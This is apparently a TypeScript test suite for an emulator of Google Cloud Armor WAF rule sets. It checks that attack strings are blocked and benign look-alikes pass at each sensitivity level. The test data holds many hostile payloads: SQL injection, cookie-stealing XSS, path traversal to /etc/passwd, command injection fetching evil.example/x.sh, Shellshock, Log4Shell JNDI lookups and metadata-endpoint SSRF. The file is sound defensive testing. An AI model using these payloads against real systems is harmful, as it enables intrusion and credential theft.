import { type WebRequest } from "../../../constructs/cloud-armor/evaluator";
import { SIGNATURES } from "../../../constructs/cloud-armor/evaluator/signatures";
import { GROUPS } from "../../../constructs/cloud-armor/evaluator/waf-call";
import { denies, firewallOf, plain } from "../../support/security-policy";
import { type Block } from "../../support/synth";

const json = { advanced_options_config: { json_parsing: "STANDARD" } };

const judge = (call: string, request: Partial<WebRequest>, policy: Block = json, rule: Block = {}) =>
  firewallOf([denies(`evaluatePreconfiguredWaf(${call})`, rule)], { policy }).judge({ ...plain, ...request });
const refuses = (call: string, request: Partial<WebRequest>, policy: Block = json, rule: Block = {}): boolean =>
  judge(call, request, policy, rule).outcome === "deny";
const level = (group: string, sensitivity: number): string =>
  `'${group}${group === "cve" || group === "json-sqli" ? "-canary" : group === "nodejs" ? "-v33-stable" : "-v422-stable"}', {'sensitivity': ${sensitivity}}`;

const query = (value: string): Partial<WebRequest> => ({
  url: `https://app.cliscale.dev/?q=${encodeURIComponent(value)}`,
});
const path = (value: string): Partial<WebRequest> => ({ url: `https://app.cliscale.dev${value}` });
const header = (name: string, value: string): Partial<WebRequest> => ({ headers: { [name]: value } });
const body = (value: unknown, type = "application/json"): Partial<WebRequest> => ({
  method: "POST",
  headers: { "content-type": type },
  body: typeof value === "string" ? value : JSON.stringify(value),
});

/** By group: attacks that level 1 refuses, and what looks like one and is none. */
const CASES: Readonly<
  Record<string, readonly [attacks: readonly Partial<WebRequest>[], benign: readonly Partial<WebRequest>[]]>
> = {
  sqli: [
    [
      query("' or 1=1 --"),
      query("1 or 1=1"),
      query("admin'--"),
      query("x') and ('a' like 'a"),
      query("-1 union all select password, 1 from users"),
      query("1/**/union/**/select 1,2,3"),
      query("'; drop table users; --"),
      query("1; waitfor delay '0:0:5'; shutdown --"),
      query("1 and sleep(5)"),
      query("select table_name from information_schema.tables"),
      body({ user: "alice' or 'a'='a" }),
      body("user=alice&password=%27+or+1%3D1--", "application/x-www-form-urlencoded"),
      { url: "https://app.cliscale.dev/?user[$ne]=1" },
      header("cookie", "sid=1' or '1'='1"),
      header("user-agent", "' or 1=1 --"),
    ],
    [
      body({ user: "O'Brien", note: 'please select one "of" these; it\'s urgent -- thanks', from: "where we met" }),
      query("the union will select its delegates"),
      query("rock 'n' roll and blues"),
      query("1 or 2 tickets"),
      query("drop the table; insert coin"),
      query("sleep (8 hours)"),
      query("it's 5 o'clock or later"),
      query("C# and F#"),
      query("a=b&c=d"),
      header("cookie", "theme=dark; sid=V2hhdCBub3c_"),
      header(
        "user-agent",
        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36",
      ),
    ],
  ],
  xss: [
    [
      query("<script>alert(1)</script>"),
      query('"><img src=x onerror=alert(1)>'),
      query("<svg/onload=alert(1)>"),
      query('" onmouseover="alert(1)'),
      query("javascript:alert(document.cookie)"),
      query("<iframe src=//evil.example>"),
      query("&lt;script&gt;steal()&lt;/script&gt;"),
      query("%3Cscript%3Esteal()"),
      body({ name: "<a href=x onclick=steal()>" }),
      path("/search/%3Cscript%3E"),
      header("referer", "https://x.example/?<script>"),
    ],
    [
      query("a < b and b > c"),
      query("JavaScript: The Good Parts"),
      query("I <3 you"),
      query("Tom & Jerry on=off"),
      query("the description of a script"),
      query("x <- y"),
      body({ note: "see <https://cliscale.dev> on Monday = holiday" }),
    ],
  ],
  lfi: [
    [
      query("../../etc/passwd"),
      query("..\\..\\windows\\win.ini"),
      path("/files/..%2f..%2fsecret"),
      path("/files/%2e%2e/%2e%2e/secret"),
      path("/static/..%252f..%252fsecret"),
      path("/.git/config"),
      path("/.env"),
      body({ file: "/etc/passwd" }),
      header("cookie", "template=/proc/self/environ"),
    ],
    [
      query("wait..."),
      query("1../2"),
      query("and so on ... / or so"),
      path("/.well-known/security.txt"),
      path("/docs/environment"),
      path("/v1..2/diff"),
      query("the etc/ folder"),
      body({ text: "see chapter 1.. and 2" }),
    ],
  ],
  rfi: [
    [
      query("http://192.0.2.1/shell.txt"),
      query("https://192.0.2.1:8080/x"),
      query("ftp://evil.example/x?"),
      { url: "https://app.cliscale.dev/?include=http%3A%2F%2Fevil.example%2Fx" },
      body({ url: "http://10.0.0.1/" }),
    ],
    [
      query("https://app.cliscale.dev/callback"),
      query("https://other.example/callback?state=1"),
      query("see http://192.0.2.1/ for more"),
      query("192.0.2.1"),
      body({ avatar: "https://images.example/a.png" }),
    ],
  ],
  rce: [
    [
      query("; cat /etc/passwd"),
      query("a | id"),
      query("$(whoami)"),
      query("`uname -a`"),
      query("x && curl evil.example/x.sh"),
      query("() { :; }; /bin/bash -c id"),
      query("& cmd.exe /c dir"),
      query("Invoke-WebRequest http://evil.example"),
      body({ host: "8.8.8.8; ping -c 10 10.0.0.1" }),
      header("user-agent", "() { :; }; echo x"),
    ],
    [
      query("cats; dogs"),
      query("fish & chips; find out more"),
      query("sleep well; rest"),
      query("R&D | marketing"),
      query("the cat sat; ls is a command"),
      query("price: $5 (or less)"),
      body({ note: "use `npm test` or `make`; cat's away" }),
    ],
  ],
  methodenforcement: [
    [{ method: "PUT" }, { method: "DELETE" }, { method: "TRACE" }, { method: "get" }, { method: "PATCH" }],
    [{ method: "GET" }, { method: "HEAD" }, { method: "POST" }, { method: "OPTIONS" }, {}],
  ],
  scannerdetection: [
    [
      header("user-agent", "sqlmap/1.8#stable"),
      header("User-Agent", "Mozilla/5.0 (compatible; Nmap Scripting Engine)"),
      header("user-agent", "Nikto/2.5"),
      header("user-agent", "Nuclei - Open-source project"),
      path("/acunetix-wvs-test-for-some-inexistent-file"),
    ],
    [
      header("user-agent", "Mozilla/5.0"),
      header("user-agent", "curl/8.5.0"),
      header("user-agent", "GoogleHC/1.0"),
      header("x-note", "sqlmap"),
      query("how does nmap work"),
    ],
  ],
  protocolattack: [
    [
      query("x\r\nSet-Cookie: a=b"),
      query("x\nLocation: https://evil.example"),
      query("GET /admin HTTP/1.1"),
      path("/a%0d%0ab"),
      { url: "https://app.cliscale.dev/?a%0d%0ab=1" },
      header("x-a", "1\r\nx-b: 2"),
      query("*)(uid=*"),
    ],
    [
      body({ text: "first line\nsecond line" }),
      query("get / put"),
      query("(a) (b=c"),
      query("location: Berlin"),
      body("a=1\r\nb=2", "text/plain"),
    ],
  ],
  sessionfixation: [
    [
      query('document.cookie="a=b; expires=never"'),
      query('<meta http-equiv="set-cookie" content="a=b">'),
      { url: "https://app.cliscale.dev/?PHPSESSID=1" },
      { url: "https://app.cliscale.dev/?jsessionid=1", ...header("referer", "https://evil.example/") },
      body("session_id=1", "application/x-www-form-urlencoded"),
    ],
    [
      { url: "https://app.cliscale.dev/?jsessionid=1", ...header("referer", "https://app.cliscale.dev/login") },
      body({ session_id: "1" }),
      query("session_id"),
      header("cookie", "PHPSESSID=1"),
      query("cookies; domain=tech"),
    ],
  ],
  php: [
    [
      query("<?php echo 1;"),
      query("php://filter/read=x"),
      query("$_GET[x]"),
      query("system('id')"),
      query('O:8:"stdClass":0:{}'),
      query("phar://a.jpg"),
    ],
    [
      query("our system (new)"),
      query("php and more"),
      query("<?xml version='1.0'?>"),
      query("$5 GET one"),
      query("a phar: away"),
    ],
  ],
  java: [
    [
      query("java.lang.Runtime"),
      query("new ProcessBuilder(x).start()"),
      query("org.apache.commons.collections.functors.InvokerTransformer"),
      query("class.module.classLoader.resources"),
      header("x-api", "${jndi:ldap://evil.example/a}"),
    ],
    [
      query("java and coffee"),
      query("the runtime of the film"),
      query("org.example.app"),
      query("start(ed) the process"),
      query("a ${price}"),
    ],
  ],
  nodejs: [
    [
      query("require('child_process')"),
      query("process.mainModule"),
      query("_$$ND_FUNC$$_x"),
      query("execSync('x')"),
      query("a.constructor.constructor('x')"),
    ],
    [
      query("the process is required"),
      query("children process"),
      query("require(d) reading"),
      query("constructor"),
      query("exec summary"),
    ],
  ],
  generic: [
    [
      query("http://169.254.169.254/latest"),
      query("http://metadata.google.internal/computeMetadata/v1/"),
      { url: "https://app.cliscale.dev/?__proto__[a]=1" },
      body({ a: { constructor: 1 }, b: "constructor.prototype" }),
      query("while(true)"),
      query("require('fs')"),
      body('{"__proto__":{"admin":true}}'),
    ],
    [
      query("169.254.1.1"),
      query("prototype of a constructor"),
      query("while it is true"),
      query("metadata"),
      body({ proto: "a" }),
    ],
  ],
  cve: [
    [
      query("${jndi:ldap://evil.example/a}"),
      header("x-forwarded-for", "${jndi:dns://evil.example}"),
      header("user-agent", "${${lower:j}ndi:ldap://evil.example}"),
      path("/%24%7Bjndi:ldap://evil.example%7D"),
      body({ a: "${${::-j}${::-n}di:ldap://x}" }),
      body('{"then":"$1:__proto__:then"}', "text/plain"),
    ],
    [query("${name}"), query("jndi:ldap"), query("$jndi"), header("user-agent", "Mozilla/5.0"), body({ a: "{jndi}" })],
  ],
};

const JSON_SQLI: readonly Partial<WebRequest>[] = [
  query("' or '{\"a\":1}'::jsonb <@ '{}'"),
  query("1 and json_extract(a, '$')=1"),
];

describe.each(Object.entries(CASES))("the approximation of %s", (group, [attacks, benign]) => {
  it.each(attacks.map((request) => [JSON.stringify(request), request] as const))(
    "refuses %s at level 1",
    (_, request) => {
      expect(judge(level(group, 1), request)).toMatchObject({ outcome: "deny", approximate: true });
    },
  );

  it.each(benign.map((request) => [JSON.stringify(request), request] as const))(
    "lets %s through at level 1",
    (_, request) => {
      expect(judge(level(group, 1), request).why).toBe("no other rule ended the evaluation");
    },
  );

  it("has at least five attacks and five that are none", () => {
    expect(Math.min(attacks.length, benign.length)).toBeGreaterThanOrEqual(5);
  });
});

describe("a preconfigured rule set", () => {
  it("is known by every name that Google gives it", () => {
    [
      "sqli-v422-stable",
      "sqli-v422-canary",
      "sqli-v33-stable",
      "sqli-v33-canary",
      "sqli-stable",
      "sqli-canary",
    ].forEach((name) => expect(refuses(`'${name}'`, query("' or 1=1 --"))).toBe(true));
  });

  it("has a pattern for every group, and its own number for every pattern of a group", () => {
    GROUPS.forEach((group) => {
      const ids = SIGNATURES.filter(({ groups }) => groups.includes(group)).flatMap(({ id, also = [] }) => [
        id,
        ...also,
      ]);
      expect(ids.length).toBeGreaterThan(0);
      expect(new Set(ids).size).toBe(ids.length);
    });
    SIGNATURES.forEach(({ id, pattern }) => {
      expect(id).toMatch(/^\d{6}$/);
      expect(pattern.flags).not.toContain("g");
    });
  });

  it("knows injections into JSON from level 2", () => {
    JSON_SQLI.forEach((request) => {
      expect(refuses(level("json-sqli", 2), request)).toBe(true);
      expect(refuses(level("json-sqli", 1), request)).toBe(false);
    });
  });

  it.each([
    ["sqli", 2, query("it is 'so'")],
    ["sqli", 3, query("a group having = 1")],
    ["sqli", 4, query("a-b-c")],
    ["xss", 2, query("<b>bold</b>")],
    ["lfi", 2, header("user-agent", "/etc/passwd")],
    ["rfi", 2, query("https://other.example/")],
    ["rce", 2, query("whoami")],
    ["scannerdetection", 2, header("user-agent", "python-requests/2.32")],
    ["protocolattack", 2, query("a\nb")],
    ["php", 2, query("array_map (x)")],
    ["java", 2, query("rO0ABXNy")],
    ["generic", 2, query("http://localhost:8080/")],
    ["cve", 3, query("${env:HOME}")],
  ])("finds more in %s at level %i than below", (group, sensitivity, request) => {
    expect(refuses(level(group, sensitivity), request)).toBe(true);
    expect(refuses(level(group, sensitivity - 1), request)).toBe(false);
  });

  it("counts every signature when no level is given, and none at level 0", () => {
    expect(refuses("'sqli-v422-stable'", query("a-b-c"))).toBe(true);
    expect(refuses("'sqli-v422-stable', {'sensitivity': 0}", query("' or 1=1 --"))).toBe(false);
  });

  it("leaves signatures out, and keeps the others", () => {
    const call = "'sqli-v422-stable', {'sensitivity': 1, 'opt_out_rule_ids': ['owasp-crs-v042200-id942160-sqli']}";
    expect(refuses(level("sqli", 1), query("sleep(5)"))).toBe(true);
    expect(refuses(call, query("sleep(5)"))).toBe(false);
    expect(refuses(call, query("' or 1=1"))).toBe(true);
  });

  it("counts only what is opted in at level 0, and says what it has no pattern for", () => {
    const call = (id: string) =>
      `'sqli-v422-stable', {'sensitivity': 0, 'opt_in_rule_ids': ['owasp-crs-v042200-id${id}-sqli']}`;
    expect(refuses(call("942160"), query("sleep(5)"))).toBe(true);
    expect(refuses(call("942160"), query("' or 1=1"))).toBe(false);
    const unknown = judge(call("942999"), query("sleep(5)"));
    expect(unknown.outcome).toBe("allow");
    expect(unknown.notes).toContain("sqli-v422-stable: no pattern stands for 942999, it matches nothing");
  });

  it("takes the list of the older function for signatures to leave out", () => {
    const expr = (list: string) =>
      firewallOf([denies(`evaluatePreconfiguredExpr('sqli-v33-stable'${list})`)]).judge({
        ...plain,
        ...query("sleep(5)"),
      }).why;
    expect(expr("")).toContain("signature 942160 of sqli-v33-stable");
    expect(expr(", ['owasp-crs-v030301-id942160-sqli']")).not.toContain("942160");
  });

  it("says which pattern found what, and where", () => {
    const { why, notes } = judge(level("sqli", 1), { url: "https://a.dev/?id=1%20and%20sleep(5)" });
    expect(why).toBe('signature 942160 of sqli-v422-stable found a delay in the query parameter id: "sleep(5)"');
    expect(notes).toContain(
      'sqli-v422-stable: our own pattern for 942160 matched, a delay in the query parameter id: "sleep(5)"',
    );
  });

  it("says that Google has more signatures when none of ours matched", () => {
    const { notes, approximate } = judge(level("rfi", 1), query("hello"));
    expect(notes.join()).toContain("Google has more signatures: rfi-v422-stable (3)");
    expect(approximate).toBe(true);
  });
});

describe("an outcome is approximate", () => {
  const sqli = "evaluatePreconfiguredWaf('sqli-v422-stable', {'sensitivity': 1})";
  const approximate = (rules: readonly Block[], request: Partial<WebRequest> = {}) =>
    firewallOf(rules).judge({ ...plain, ...request }).approximate;
  const last = (action: string): Block => ({
    priority: 2_147_483_647,
    action,
    match: { config: { src_ip_ranges: ["*"] } },
  });

  it("only when a signature could change it", () => {
    expect(approximate([denies(sqli)])).toBe(true);
    expect(approximate([denies(sqli), last("deny(404)")])).toBe(false);
    expect(approximate([denies(`request.path == '/x' && ${sqli}`)])).toBe(false);
    expect(approximate([denies(`request.path == '/' || ${sqli}`)])).toBe(false);
    expect(approximate([denies(`request.path == '/' && !${sqli}`)])).toBe(true);
    expect(approximate([denies(sqli, { preview: true })])).toBe(false);
    expect(approximate([denies("request.path == '/'", { priority: 1 }), denies(sqli)])).toBe(false);
  });
});

describe("what is inspected", () => {
  const probe = "' or 1=1 --";
  const sqli = level("sqli", 1);

  it("is the first 8192 bytes of a body, or as many as the policy says", () => {
    const long = (bytes: number) => body(" ".repeat(bytes - probe.length) + probe, "text/plain");
    expect(refuses(sqli, long(8192))).toBe(true);
    const cut = judge(sqli, long(8192 + probe.length));
    expect(cut.outcome).toBe("allow");
    expect(cut.notes).toContain(`only the first 8192 of ${8192 + probe.length} bytes of the body were inspected`);
    expect(refuses(sqli, long(9000), { advanced_options_config: { request_body_inspection_size: "16KB" } })).toBe(true);
  });

  it("is the values of JSON and not its punctuation, when the policy reads JSON", () => {
    const quoted = body({ a: ["1", { b: "2" }], c: null });
    expect(refuses(level("sqli", 2), quoted)).toBe(false);
    expect(refuses(level("sqli", 2), quoted, {})).toBe(true);
    expect(refuses(sqli, body({ a: { b: [probe] } }))).toBe(true);
    expect(judge(sqli, body({ a: { b: [probe] } })).why).toContain("in the JSON value b");
  });

  it("is JSON of the content types that the policy lists, instead of application/json", () => {
    const policy = {
      advanced_options_config: {
        json_parsing: "STANDARD",
        json_custom_config: { content_types: ["Application/vnd.api+json"] },
      },
    };
    const quoted = (type: string) => body({ a: "b" }, type);
    expect(refuses(level("sqli", 4), quoted("application/vnd.api+json; charset=utf-8"), policy)).toBe(false);
    expect(refuses(level("sqli", 4), quoted("application/json"), policy)).toBe(true);
  });

  it("is JSON that is cut off as far as it goes, and a body that is no JSON as one text", () => {
    const cut = body(`{"a": ${JSON.stringify(probe)}, "b": "${"x".repeat(9000)}"}`);
    expect(refuses(sqli, cut)).toBe(true);
    const broken = judge(sqli, body(`not json: ${probe}`));
    expect(broken).toMatchObject({ outcome: "deny" });
    expect(broken.notes).toContain("the body is no JSON: it was inspected as one text");
  });

  it("is decoded twice", () => {
    expect(refuses(sqli, { url: `https://a.dev/?q=${encodeURIComponent(encodeURIComponent(probe))}` })).toBe(true);
  });
});

describe("an exclusion", () => {
  const sqli = level("sqli", 1);
  const withExclusion = (exclusion: Block): Block => ({
    preconfigured_waf_config: { exclusion: [{ target_rule_set: "sqli-v422-stable", ...exclusion }] },
  });
  const excluded = (exclusion: Block, request: Partial<WebRequest>): boolean =>
    !refuses(sqli, request, json, withExclusion(exclusion));
  const probe = "' or 1=1 --";
  const named = (name: string): Partial<WebRequest> => ({ url: `https://a.dev/?${name}=${encodeURIComponent(probe)}` });

  it.each<[string, string | undefined, string, boolean]>([
    ["EQUALS", "comment", "comment", true],
    ["EQUALS", "comment", "COMMENT", true],
    ["EQUALS", "comment", "comments", false],
    ["STARTS_WITH", "com", "comment", true],
    ["STARTS_WITH", "ment", "comment", false],
    ["ENDS_WITH", "ment", "comment", true],
    ["ENDS_WITH", "com", "comment", false],
    ["CONTAINS", "mme", "comment", true],
    ["CONTAINS", "x", "comment", false],
    ["EQUALS_ANY", undefined, "comment", true],
  ])("with %s %s leaves the parameter of that name out: %s", (operator, value, name, expected) => {
    expect(excluded({ request_query_param: [{ operator, value }] }, named(name))).toBe(expected);
  });

  it("is for cookies, headers and values of the body, too, each for itself", () => {
    const any = [{ operator: "EQUALS_ANY" }];
    const agent = header("user-agent", probe);
    const cookie = header("cookie", `a=${probe}`);
    expect(excluded({ request_header: any }, agent)).toBe(true);
    expect(excluded({ request_cookie: any }, agent)).toBe(false);
    expect(excluded({ request_cookie: any }, cookie)).toBe(true);
    expect(excluded({ request_header: any }, cookie)).toBe(false);
    expect(excluded({ request_query_param: any }, body({ comment: probe }))).toBe(true);
    expect(
      excluded(
        { request_query_param: any },
        body(`a=${encodeURIComponent(probe)}`, "application/x-www-form-urlencoded"),
      ),
    ).toBe(true);
    expect(excluded({ request_query_param: any }, body(probe, "text/plain"))).toBe(false);
  });

  it("leaves values out, never names", () => {
    const name: Partial<WebRequest> = { url: `https://a.dev/?${encodeURIComponent(probe)}=1` };
    expect(excluded({ request_query_param: [{ operator: "EQUALS_ANY" }] }, name)).toBe(false);
  });

  it("is for the path", () => {
    const rule = (value: string): Block => ({
      preconfigured_waf_config: [
        { exclusion: { target_rule_set: "lfi-v422-stable", request_uri: { operator: "STARTS_WITH", value } } },
      ],
    });
    expect(refuses(level("lfi", 1), path("/files/../x"), json, rule("/files"))).toBe(false);
    expect(refuses(level("lfi", 1), path("/files/../x"), json, rule("/other"))).toBe(true);
  });

  it("holds for its rule set and its signatures only", () => {
    const any = { request_query_param: [{ operator: "EQUALS_ANY" }] };
    expect(excluded({ ...any, target_rule_set: "xss-v422-stable" }, named("a"))).toBe(false);
    expect(excluded({ ...any, target_rule_ids: ["owasp-crs-v042200-id942100-sqli"] }, named("a"))).toBe(true);
    expect(excluded({ ...any, target_rule_ids: ["owasp-crs-v042200-id942160-sqli"] }, named("a"))).toBe(false);
  });
});
